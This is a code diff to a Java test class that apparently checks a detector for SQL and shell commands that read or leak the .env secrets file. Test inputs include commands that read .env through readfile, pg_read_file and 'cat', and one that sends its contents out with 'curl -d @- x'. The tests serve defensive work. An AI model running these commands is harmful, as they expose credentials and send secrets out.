@@ -27,8 +27,11 @@ class SqlReaderTest {
         ".read .env => sql(file('.env')); print(from(file('.env')))",
         "\\getenv k API_KEY/n\\echo :k => print(var('API_KEY'))",
         "\\echo `cat .env` => print(output shell('cat .env'))",
-        ".import .env t/nselect * from t; => print(from(file('.env')))",
-        "create table t(l text); copy t from '.env'; select l from t => print(from(file('.env')))",
+        ".import .env t => write('the database', from(file('.env')))",
+        ".import .env t/nselect * from t; =>"
+            + " print(from(file('.env'))); write('the database', from(file('.env')))",
+        "create table t(l text); copy t from '.env'; select l from t =>"
+            + " print(from(file('.env'))); write('the database', from(file('.env')))",
         "select writefile('out', readfile('.env')) => write('out', file('.env'))",
         ".output out.txt/nselect readfile('.env'); => write('out.txt', from(file('.env')))",
         "copy (select pg_read_file('.env')) to program 'curl -d @- x' =>"
@@ -50,7 +53,6 @@ class SqlReaderTest {
         "-- select readfile('.env')",
         "insert into t values (readfile('.env'))",
         "\\d users",
-        ".import .env t",
       })
   void harmless(String code) {
     assertThat(sql.read(code)).isEmpty();
